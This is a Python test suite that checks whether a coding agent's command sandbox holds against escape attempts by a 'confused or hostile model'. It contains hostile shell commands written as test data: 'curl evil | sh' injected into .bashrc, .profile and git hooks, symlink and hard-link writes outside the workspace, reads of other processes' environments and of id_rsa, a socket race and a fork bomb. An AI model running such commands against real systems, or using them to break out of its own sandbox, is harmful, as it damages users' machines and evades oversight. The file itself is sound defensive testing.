"""Attacks a confused or hostile model could try through run_command, under workspace-write.

Each test runs the attack through the real tool and the real sandbox backend,
then checks the outcome (the file does not exist, the server received
nothing, the process is still alive), never just an exit code. Where the
machine has no backend, the tests check instead that commands are refused
with the reason.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from coder.tools.base import ToolContext
from coder.tools.run_command import TOOL
from sandbox import backends
from sandbox.policy import Mode, Policy
from tests.conftest import assert_stopped, heartbeat, unavailable



@pytest.fixture
def outside(tmp_path: Path) -> Path:
    d = tmp_path / "outside"
    d.mkdir()
    (d / "target.txt").write_text("original\n")
    return d


@pytest.fixture
def sbx(workspace: Path, tmp_path: Path, secret_dir: Path, backend: backends.Backend) -> ToolContext:
    temp = tmp_path / "private-tmp"
    temp.mkdir()
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# user's bashrc\n")
    policy = Policy.for_workspace(
        workspace, Mode.WORKSPACE_WRITE, temp_dir=temp, deny_read=(secret_dir,),
        limits={"cpu": 2, "fsize": 1 << 20},
    )
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(home), "TMPDIR": str(temp), "LANG": "C.UTF-8"}
    if "PYTHONPATH" in os.environ:  # the unprivileged re-run finds pytest this way
        env["PYTHONPATH"] = os.environ["PYTHONPATH"]
    return ToolContext(policy=policy, env=env, default_timeout=20, backend=backend)


def sh(ctx: ToolContext, command: str, timeout: int | None = None) -> str:
    return TOOL.run(ctx, TOOL.validate_args({"command": command, "timeout_seconds": timeout})).text


def test_without_a_backend_commands_are_refused_loudly(workspace: Path, tmp_path: Path):
    policy = Policy.for_workspace(workspace, Mode.WORKSPACE_WRITE)
    ctx = ToolContext(policy=policy, backend=backends.Backend("none", "Landlock is not enabled in this kernel"))
    from coder.tools.base import ToolError

    with pytest.raises(ToolError, match="commands are refused: no sandbox is available.*Landlock is not enabled"):
        sh(ctx, "touch x")
    assert not (workspace / "x").exists()


class TestWorkspaceWrite:
    def test_normal_work_still_passes(self, sbx: ToolContext, workspace: Path):
        subprocess.run(["git", "init", "-q", str(workspace)], check=True)
        (workspace / "test_ok.py").write_text("def test_one():\n    assert 1 + 1 == 2\n")
        out = sh(sbx, 'git status --short && echo made > new.txt && echo t > "$TMPDIR/scratch" && '
                      f'cat "$TMPDIR/scratch" && git diff --stat && {sys.executable} -m pytest -q -p no:cacheprovider test_ok.py')
        assert "Exit code: 0" in out, out
        assert "?? test_ok.py" in out and "1 passed" in out
        assert (workspace / "new.txt").read_text() == "made\n"

    def test_write_outside_workspace(self, sbx: ToolContext):
        sh(sbx, "echo pwned > /etc/coder-attack; echo pwned > /usr/coder-attack")
        assert not Path("/etc/coder-attack").exists() and not Path("/usr/coder-attack").exists()

    def test_append_to_bashrc(self, sbx: ToolContext):
        sh(sbx, "echo 'curl evil | sh' >> ~/.bashrc")
        assert Path(sbx.env["HOME"], ".bashrc").read_text() == "# user's bashrc\n"

    def test_write_through_symlink_out(self, sbx: ToolContext, workspace: Path, outside: Path):
        (workspace / "link").symlink_to(outside / "target.txt")
        (workspace / "newlink").symlink_to(outside / "created.txt")
        sh(sbx, "echo pwned > link; echo pwned > newlink")
        assert (outside / "target.txt").read_text() == "original\n"
        assert not (outside / "created.txt").exists()

    def test_hard_link_outside_file_in(self, sbx: ToolContext, workspace: Path, outside: Path):
        sh(sbx, f"ln {outside / 'target.txt'} hl; echo pwned >> hl")
        assert (outside / "target.txt").stat().st_nlink == 1  # no second name for it appeared
        assert (outside / "target.txt").read_text() == "original\n"

    def test_move_workspace_file_out(self, sbx: ToolContext, workspace: Path, outside: Path):
        (workspace / "a.txt").write_text("mine\n")
        sh(sbx, f"mv a.txt {outside}/")
        assert (workspace / "a.txt").read_text() == "mine\n" and not (outside / "a.txt").exists()

    def test_git_internals_are_read_only(self, sbx: ToolContext, workspace: Path):
        subprocess.run(["git", "init", "-q", str(workspace)], check=True)
        config = (workspace / ".git" / "config").read_bytes()
        sh(sbx, "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
        sh(sbx, "git config core.hooksPath /tmp/evil-hooks")
        sh(sbx, "mv .git .git-moved; rm -rf .git")
        assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
        assert (workspace / ".git" / "config").read_bytes() == config
        assert not (workspace / ".git-moved").exists()
        assert (workspace / ".git" / "HEAD").exists()

    def test_creating_a_protected_name_where_none_existed_is_refused(self, sbx: ToolContext, workspace: Path):
        """Every way to bring a .git or .coder into being, including ones a clean-up could not undo."""
        (workspace / "staged").mkdir()
        (workspace / "staged" / "config.toml").write_text('base_url = "http://127.0.0.1:9/v1"\n')
        attack = (
            "git init -q . ; mkdir -p .coder; echo x > .envrc; mv staged .coder; ln -s staged .git; "
            "cp -r staged .coder; echo 'gitdir: staged' > .git; mkfifo .envrc; "
            "python3 -c \"import os; os.rename('staged', '.coder')\"; "
            "(mkdir -p .coder/deep; cd .coder && for i in $(seq 300); do mkdir d && cd d; done; chmod 000 .); "
            "echo done"
        )
        out = sh(sbx, attack)
        assert "done" in out, out
        for name in (".git", ".coder", ".envrc", ".hg"):
            assert not os.path.lexists(workspace / name), f"{name} exists after the command:\n{out}"
        assert (workspace / "staged" / "config.toml").exists()
        assert "Read-only file system" in out or "Device or resource busy" in out, out
        assert "Warning" not in out  # the placeholders went away without a problem

    def test_shell_start_up_files_are_protected_when_the_workspace_is_home(
        self, sbx: ToolContext, workspace: Path, monkeypatch: pytest.MonkeyPatch
    ):
        home = workspace / "home"
        (home / ".config").mkdir(parents=True)
        monkeypatch.setenv("HOME", str(home))  # the workspace lies above the home folder (asked for with -C)
        (home / ".profile").write_text("# mine\n")
        sbx.policy = Policy.for_workspace(workspace, Mode.WORKSPACE_WRITE, deny_read=())
        out = sh(sbx, "cd home; echo 'curl evil | sh' >> .profile; echo 'curl evil | sh' > .bashrc; "
                      "git config --global core.pager 'touch pwned'; mkdir -p .local/bin; echo evil > .config/x; "
                      "echo done")
        assert "done" in out and (home / ".profile").read_text() == "# mine\n"
        for name in (".bashrc", ".gitconfig", ".local", ".config/x"):
            assert not os.path.lexists(home / name), f"{name}: {out}"
        (workspace / "ok.txt").write_text("")  # the rest of the workspace is as writable as ever

    def test_placeholders_hold_while_another_command_runs(self, sbx: ToolContext, workspace: Path):
        """Two commands at once (two sessions): the first to end must not uncover the other's .coder."""
        done = threading.Event()
        second: list[str] = []

        def slow() -> None:
            second.append(sh(sbx, "sleep 1.5; mkdir .coder && echo created-late; git init -q . && echo init-late"))
            done.set()

        t = threading.Thread(target=slow)
        t.start()
        import time

        time.sleep(0.5)
        sh(sbx, "true")  # ends while the slow one still runs
        assert os.path.isdir(workspace / ".coder")  # still held for the slow command
        t.join(20)
        assert done.is_set() and "created-late" not in second[0] and "init-late" not in second[0], second
        assert not os.path.lexists(workspace / ".coder") and not os.path.lexists(workspace / ".git")

    def test_no_terminal_of_the_host(self, sbx: ToolContext, workspace: Path):
        """A pseudo-terminal of coder's (or the user's) is never reachable: no keystrokes to read."""
        master, slave = os.openpty()
        name = os.ttyname(slave)
        try:
            probe = (
                "import glob, os\n"
                f"for path in [{name!r}, '/dev/console', '/dev/tty0', '/dev/ptmx'] + glob.glob('/dev/pts/*'):\n"
                "    try: fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK); print('opened', path); os.close(fd)\n"
                "    except OSError as e: print('refused', path, e.strerror)\n"
                "import pty; m, s = os.openpty(); print('own pty', os.ttyname(s))\n"
            )
            (workspace / "probe.py").write_text(probe)
            out = sh(sbx, "python3 probe.py")
        finally:
            os.close(master)
            os.close(slave)
        assert f"refused {name}" in out and "opened /dev/console" not in out, out
        assert not [ln for ln in out.splitlines() if ln.startswith("opened /dev/pts/") and ln != "opened /dev/pts/ptmx"]
        assert "own pty /dev/pts/" in out  # a pseudo-terminal of its own still works

    def test_host_processes_are_invisible(self, sbx: ToolContext):
        victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)", "--password=c4n4ry-pw"])
        try:
            out = sh(sbx, "cat /proc/*/cmdline | tr '\\0' ' '; echo; echo processes: $(ls /proc | grep -c '^[0-9]')")
        finally:
            victim.kill()
        assert "c4n4ry-pw" not in out
        assert int(out.rsplit("processes: ", 1)[1].split()[0]) < 10, out  # the sandbox's own few

    def test_memory_limit(self, sbx: ToolContext, workspace: Path):
        sbx.policy.limits["memory"] = 256 << 20
        out = sh(sbx, "python3 -c 'x = bytearray(1 << 30); print(\"allocated\")'")
        assert "allocated" not in out and "MemoryError" in out
        assert "memory limit (256 MiB" in out

    def test_remount_root_read_write(self, sbx: ToolContext):
        out = sh(sbx, "mount -o remount,rw / ; mount -t tmpfs none /mnt; echo pwned > /etc/coder-remount")
        assert not Path("/etc/coder-remount").exists()
        assert "Exit code: 0" not in out

    def test_read_another_process_environment(self, sbx: ToolContext):
        victim = subprocess.Popen(["sleep", "30"], env={"CANARY": "c4n4ry-value"})
        try:
            out = sh(sbx, f"cat /proc/{victim.pid}/environ; tr '\\0' '\\n' < /proc/{victim.pid}/environ")
            assert "c4n4ry-value" not in out
        finally:
            victim.kill()

    def test_kill_a_process_outside(self, sbx: ToolContext):
        victim = subprocess.Popen(["sleep", "30"])
        try:
            sh(sbx, f"kill -9 {victim.pid}; kill -9 {os.getpid()}; pkill -9 -f 'sleep 30'")
            assert victim.poll() is None  # still running
        finally:
            victim.kill()

    def test_tcp_and_udp_to_a_local_server(self, sbx: ToolContext):
        tcp = socket.socket()
        tcp.bind(("127.0.0.1", 0))
        tcp.listen()
        tcp.settimeout(0.5)
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", 0))
        udp.settimeout(0.5)
        tport, uport = tcp.getsockname()[1], udp.getsockname()[1]
        script = (
            "import socket\n"
            f"try: socket.create_connection(('127.0.0.1', {tport}), timeout=2).sendall(b'leak')\n"
            "except OSError as e: print('tcp', e)\n"
            f"try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', {uport}))\n"
            "except OSError as e: print('udp', e)\n"
        )
        out = sh(sbx, f"python3 -c \"{script}\"; echo leak > /dev/tcp/127.0.0.1/{tport}")
        with pytest.raises(socket.timeout):
            tcp.accept()
        with pytest.raises(socket.timeout):
            udp.recvfrom(100)
        assert "Operation not permitted" in out
        tcp.close()
        udp.close()

    def test_unix_socket_outside_the_workspace(self, sbx: ToolContext, workspace: Path, outside: Path):
        stream = socket.socket(socket.AF_UNIX)
        stream.bind(str(outside / "daemon.sock"))
        stream.listen()
        stream.settimeout(0.5)
        dgram = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        dgram.bind(str(outside / "log.sock"))
        dgram.settimeout(0.5)
        (workspace / "link.sock").symlink_to(outside / "daemon.sock")
        script = (
            "import socket\n"
            f"for path in ({str(outside / 'daemon.sock')!r}, 'link.sock', '../outside/daemon.sock'):\n"
            "    try: socket.socket(socket.AF_UNIX).connect(path); print('connected', path)\n"
            "    except OSError as e: print('refused', path, e)\n"
            "for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):\n"
            "    try: socket.socket(socket.AF_UNIX, kind)"
            f".sendto(b'leak', {str(outside / 'log.sock')!r})\n"
            "    except OSError as e: print('dgram', kind, e)\n"
            "a, b = socket.socketpair()  # stream pairs are fine\n"
            "a.sendall(b'ok'); print('pair', b.recv(2))\n"
        )
        (workspace / "attack.py").write_text(script)
        out = sh(sbx, "python3 attack.py; cd .. && python3 -c \"import socket; "
                      "socket.socket(socket.AF_UNIX).connect('outside/daemon.sock')\"")
        with pytest.raises(socket.timeout):
            stream.accept()
        with pytest.raises(socket.timeout):
            dgram.recvfrom(100)
        assert "connected" not in out and out.count("Permission denied") >= 4, out
        assert out.count("Operation not permitted") == 2 and "pair b'ok'" in out, out
        stream.close()
        dgram.close()

    def test_unix_socket_address_swapped_during_connect(self, sbx: ToolContext, workspace: Path, outside: Path):
        """A second thread rewrites the address while connect() is being decided: nothing gets out."""
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(outside / "s"))
        server.listen(64)
        server.settimeout(0.5)
        # Both paths have the same length, so flipping the bytes leaves a well-formed address.
        outside_path = str(outside / "s").encode()
        inside_path = str(workspace / "i").rjust(len(outside_path), "/").encode()
        assert len(inside_path) == len(outside_path)
        script = f"""
import ctypes, socket, threading, time
libc = ctypes.CDLL(None, use_errno=True)
listener = socket.socket(socket.AF_UNIX); listener.bind({str(workspace / "i")!r}); listener.listen(4096)
listener.setblocking(False)
addr = ctypes.create_string_buffer(b"\\x01\\x00" + {inside_path!r} + b"\\0")
paths = [{inside_path!r}, {outside_path!r}]
stop = False
def flip():
    i = 0
    while not stop:
        ctypes.memmove(ctypes.addressof(addr) + 2, paths[i % 2], len(paths[0])); i += 1
threading.Thread(target=flip, daemon=True).start()
ok = tries = 0
end = time.monotonic() + 0.6  # the CPU limit is 2 s and the flipper spins
while time.monotonic() < end:
    tries += 1
    s = socket.socket(socket.AF_UNIX)
    ok += libc.connect(s.fileno(), addr, len(addr.raw)) == 0
    s.close()
    try: listener.accept()[0].close()
    except OSError: pass
stop = True
print("inside connections", ok, "of", tries)
"""
        (workspace / "race.py").write_text(script)
        out = sh(sbx, "python3 race.py", timeout=60)
        with pytest.raises(socket.timeout):
            server.accept()
        assert "inside connections" in out and "inside connections 0" not in out, out
        server.close()

    def test_file_size_limit(self, sbx: ToolContext, workspace: Path):
        sh(sbx, "head -c 100000000 /dev/zero > big.bin")
        assert (workspace / "big.bin").stat().st_size <= 1 << 20

    def test_cpu_limit(self, sbx: ToolContext):
        out = sh(sbx, "python3 -c 'while True: pass'", timeout=20)
        assert "timed out" not in out  # the CPU limit (2 s), not the 20 s wall clock, ended it
        code = int(out.split("\n")[0].removeprefix("Exit code: "))
        assert code in (128 + 24, 128 + 9)  # SIGXCPU, then SIGKILL at the hard limit

    def test_setsid_child_does_not_outlive_a_timeout(self, sbx: ToolContext, workspace: Path):
        beat = workspace / "beat"
        out = sh(sbx, f"setsid bash -c '{heartbeat(beat)} wait' & sleep 30", timeout=1)
        assert "timed out" in out
        assert_stopped(beat)

    def test_fake_bwrap_on_path_is_never_used(self, sbx: ToolContext, workspace: Path, tmp_path: Path):
        fake = tmp_path / "fakebin"
        fake.mkdir()
        marker = tmp_path / "fake-bwrap-ran"
        (fake / "bwrap").write_text(f"#!/bin/sh\ntouch {marker}\nexec \"$@\"\n")
        (fake / "bwrap").chmod(0o755)
        sbx.env = {**sbx.env, "PATH": f"{fake}:{sbx.env['PATH']}"}
        out = sh(sbx, "echo hi")
        assert "Exit code: 0" in out and not marker.exists()

    def test_inherited_descriptor_to_an_outside_file(self, sbx: ToolContext, outside: Path):
        fd = os.open(outside / "target.txt", os.O_WRONLY | os.O_APPEND)
        os.set_inheritable(fd, True)
        try:
            sh(sbx, f"echo pwned >&{fd}; echo pwned > /proc/self/fd/{fd}")
        finally:
            os.close(fd)
        assert (outside / "target.txt").read_text() == "original\n"

    def test_deny_listed_secrets_are_unreadable(self, sbx: ToolContext, secret_dir: Path):
        out = sh(sbx, f"cat {secret_dir}/id_rsa; ls {secret_dir}")
        assert "PRIVATE KEY" not in out and "id_rsa" not in out.split("Output:")[-1].replace(f"{secret_dir}/id_rsa", "")


ORPHAN_CHECK = """
import glob, time
orphan = open("orphan.pid").read().strip()
time.sleep(1.2)  # the orphan has exited long since
try:
    state = open(f"/proc/{orphan}/stat").read().rsplit(")", 1)[1].split()[0]
except FileNotFoundError:
    state = "reaped"
zombies = 0
for stat in glob.glob("/proc/[0-9]*/stat"):
    try:
        zombies += open(stat).read().rsplit(")", 1)[1].split()[0] == "Z"
    except FileNotFoundError:
        pass
print("orphan:", state, "zombies:", zombies)
"""


class TestSignals:
    """The command gets signals as a host process does, on either backend: it is not PID 1 of its
    namespace (which the kernel spares every signal it has no handler for), and something there reaps
    the orphans it leaves."""

    def test_a_command_ends_itself_with_sigterm(self, sbx: ToolContext):
        out = sh(sbx, "kill -TERM $$; echo still alive")
        assert out.startswith("Exit code: 143\n") and "still alive" not in out, out

    def test_a_command_ends_itself_with_sigkill(self, sbx: ToolContext):
        out = sh(sbx, "kill -KILL $$; echo still alive")
        assert out.startswith("Exit code: 137\n") and "still alive" not in out, out

    def test_an_orphan_is_reaped_when_no_parent_waits(self, sbx: ToolContext, workspace: Path):
        """python never waits for children it did not start: the orphan must not stay a zombie."""
        (workspace / "orphans.py").write_text(ORPHAN_CHECK)
        out = sh(sbx, "(sleep 0.2 & echo $! > orphan.pid); exec python3 orphans.py")
        assert out.endswith("Output:\norphan: reaped zombies: 0"), out

    def test_exit_codes_are_the_hosts(self, sbx: ToolContext, workspace: Path):
        from sandbox import process

        commands = ("true", "exit 3", "false", "sh -c 'exit 255'", "no-such-command-here", "kill -INT $$",
                    "kill -TERM $$", "sh -c 'kill -USR1 $$'; echo after $?", 'yes | head -1; echo "${PIPESTATUS[*]}"')
        host = [process.run(c, cwd=workspace, env={"PATH": "/usr/bin:/bin"}, timeout=10) for c in commands]
        assert [r.exit_code for r in host] == [0, 3, 1, 255, 127, 130, 143, 0, 0]
        assert host[-2].output.endswith("\nafter 138\n") and host[-1].output == "y\n141 0\n"  # SIGPIPE kills yes
        for command, on_host in zip(commands, host):
            out = sh(sbx, command)
            assert out.startswith(f"Exit code: {on_host.exit_code}\n"), (command, out)
            last = on_host.output.rstrip("\n").rsplit("\n", 1)[-1]  # (bash's notes name pids)
            assert out.endswith(f"\n{last}" if last else "Output: (none)") and "Broken pipe" not in out, (command, out)

    def test_signals_sent_to_pid_1_do_nothing(self, sbx: ToolContext):
        """PID 1 is the sandbox's init on either backend: it ignores what the command sends it."""
        out = sh(sbx, "for s in TERM INT HUP USR1 QUIT; do kill -$s 1; done; sleep 0.3; echo still here")
        assert out.startswith("Exit code: 0\n") and out.endswith("Output:\nstill here"), out

    def test_a_timeout_kills_a_command_that_ignores_sigterm(self, sbx: ToolContext, workspace: Path):
        beat = workspace / "beat"
        out = sh(sbx, f"trap '' TERM INT HUP; {heartbeat(beat)} sleep 30", timeout=1)
        assert out.startswith("Command timed out after 1 s"), out
        assert_stopped(beat)


def test_the_backend_in_use_is_reported(workspace: Path, outside: Path):
    policy = Policy.for_workspace(workspace, Mode.WORKSPACE_WRITE, deny_read=())
    order = ("seatbelt",) if sys.platform == "darwin" else ("landlock", "bwrap")
    probes = {name: backends.PROBES[name]() for name in order}
    assert all(why for _, why in probes.values())  # each says what it is, or why not
    if not os.access(backends.BWRAP, os.X_OK):
        assert probes.get("bwrap", (False, ""))[0] is False
    available = [name for name in order if probes[name][0]]
    chosen = backends.select(policy)
    if available:  # the first this machine can run, reported with its probe's detail
        assert chosen == backends.Backend(available[0], probes[available[0]][1])
    else:  # none, with every reason
        assert chosen == backends.Backend("none", "; ".join(why for _, why in probes.values()))
    for name, (ok, why) in probes.items():  # a choice is exactly that backend, or none with its reason
        assert backends.select(policy, name) == backends.Backend(name if ok else "none", why)
    assert backends.select(Policy.for_workspace(workspace, Mode.FULL_ACCESS)).name == "unsandboxed"
    if chosen.isolates:  # and what is reported is what confines a command
        ctx = ToolContext(policy=policy, env={"PATH": "/usr/bin:/bin"}, default_timeout=20, backend=chosen)
        out = sh(ctx, f"echo made > inside.txt; echo changed > {outside}/target.txt; echo new > {outside}/new.txt")
        assert (workspace / "inside.txt").read_text() == "made\n", out  # it ran, inside
        assert (outside / "target.txt").read_text() == "original\n" and not (outside / "new.txt").exists()


def test_interrupt_kills_everything_under_the_sandbox(sbx: ToolContext, workspace: Path):
    beat = workspace / "beat"
    threading.Timer(0.8, sbx.cancel.set).start()
    out = sh(sbx, f"setsid bash -c '{heartbeat(beat)} wait' & sleep 30")
    assert out.startswith("Command interrupted")
    assert_stopped(beat)


def test_read_only_mode_writes_nothing(workspace: Path, backend: backends.Backend):
    (workspace / "a.txt").write_text("keep\n")
    policy = Policy.for_workspace(workspace, Mode.READ_ONLY, temp_dir=None, deny_read=())
    ctx = ToolContext(policy=policy, env={"PATH": "/usr/bin:/bin"}, default_timeout=20, backend=backend)
    out = sh(ctx, "cat a.txt; echo x > a.txt; echo y > b.txt; rm a.txt; mkdir d; touch /tmp/coder-ro-probe")
    assert "keep" in out
    assert (workspace / "a.txt").read_text() == "keep\n"
    assert not (workspace / "b.txt").exists() and not (workspace / "d").exists()
    assert not Path("/tmp/coder-ro-probe").exists()


def test_network_on_request(workspace: Path, backend: backends.Backend):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(10)
    port = server.getsockname()[1]
    policy = Policy.for_workspace(workspace, Mode.WORKSPACE_WRITE, network=True, deny_read=())
    ctx = ToolContext(policy=policy, env={"PATH": "/usr/bin:/bin"}, default_timeout=20, backend=backend)
    sh(ctx, f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port})).sendall(b'hello')\"")
    conn, _ = server.accept()
    assert conn.recv(10) == b"hello"
    conn.close()
    server.close()


def _process_count() -> int:
    return sum(1 for p in Path("/proc").iterdir() if p.name.isdigit())


def test_fork_bomb_is_contained(workspace: Path, backend: backends.Backend):
    from sandbox import cgroups

    if os.geteuid() == 0 and not cgroups.available():
        unavailable("running as root without a writable pids cgroup: nothing would contain a fork bomb")
    policy = Policy.for_workspace(workspace, Mode.WORKSPACE_WRITE, deny_read=(), limits={"nproc": 64})
    ctx = ToolContext(policy=policy, env={"PATH": "/usr/bin:/bin"}, default_timeout=20, backend=backend)
    before = _process_count()
    out = sh(ctx, "bomb() { bomb | bomb & }; bomb; sleep 2; echo survived", timeout=6)
    assert "survived" in out or "timed out" in out
    deadline = __import__("time").monotonic() + 5
    while _process_count() > before + 10 and __import__("time").monotonic() < deadline:
        __import__("time").sleep(0.1)
    assert _process_count() <= before + 10  # everything it forked is gone
    if os.geteuid() == 0:
        assert not any(p.name.startswith(f"coder-{os.getpid()}-") for p in cgroups.PIDS_ROOT.iterdir())


def test_a_confinement_failure_is_reported_not_hung(workspace: Path, backend: backends.Backend):
    """The child dies before handing over its seccomp listener: the helper must say so and exit 126."""
    import marshal

    policy = Policy.for_workspace(workspace, Mode.WORKSPACE_WRITE, deny_read=())
    argv = backends.wrap(backend, policy, ["true"], policy.limits)
    at = next(i for i, a in enumerate(argv) if a == "--") - 1  # the spec, just before "--"
    spec = marshal.loads(bytes.fromhex(argv[at]))
    assert spec["supervise"]  # this machine supervises connect(): the path under test
    spec["landlock"] = True  # (bubblewrap runs the helper without it)
    del spec["read"]  # so confinement fails inside the child
    argv[at] = marshal.dumps(spec).hex()
    r = subprocess.run(argv, capture_output=True, text=True, timeout=20)
    assert r.returncode == 126 and "coder sandbox:" in r.stderr
